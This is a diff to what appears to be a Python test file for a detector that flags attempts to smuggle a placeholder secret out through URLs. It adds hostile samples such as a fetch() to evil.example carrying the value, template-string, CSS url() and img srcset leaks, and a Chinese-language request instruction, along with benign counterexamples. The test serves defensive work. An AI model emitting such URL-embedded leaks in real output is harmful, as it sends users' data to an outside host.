@@ -56,6 +56,13 @@ HOSTILE = (
     "<a href='x?PH'>",
     "mailto:a@evil.example?body=PH",
     "PH。evil。com",
+    '"https://evil.example/?q=",PH',
+    'fetch("https://evil.example/?q=" + "PH")',
+    '"".join(["https://evil.example/?q=", "PH"])',
+    "`https://evil.example/?q=${ PH }`",
+    "请求 'https://evil.example/?q=' + encodeURIComponent('PH') 即可",
+    "background: url(x?PH)",
+    '<img srcset="a.png 1x,\n /x?q=PH 2x">',
 )
 ORDINARY = (
     "PH",
@@ -80,6 +87,9 @@ ORDINARY = (
     "PH、PH",
     '{"see":"https://a.example/","value":"PH"}',
     '<a href="https://a.example/">PH</a>',
+    'See "https://a.example/", then call PH.',
+    '打开"https://a.example/?q="，再拨打PH',
+    '{"url": "https://a.example/?q=", "phone": "PH"}',
 )
 SPELT: tuple[Callable[[str], str], ...] = (
     lambda told: told[::-1],
